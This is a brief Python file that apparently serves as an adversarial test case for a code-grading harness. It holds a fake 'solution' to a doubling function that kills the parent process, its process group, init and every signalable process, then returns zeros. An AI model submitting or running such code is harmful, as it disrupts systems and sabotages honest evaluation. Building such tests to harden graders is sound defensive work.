# ruff: noqa
# kind: parent killed
# attack: the same from within the call

# %% double-solution
import os


def double(x):
    for target in (os.getppid(), -1, 0, 1):
        try:
            os.kill(target, 9)
        except OSError:
            pass
    return np.zeros(3)
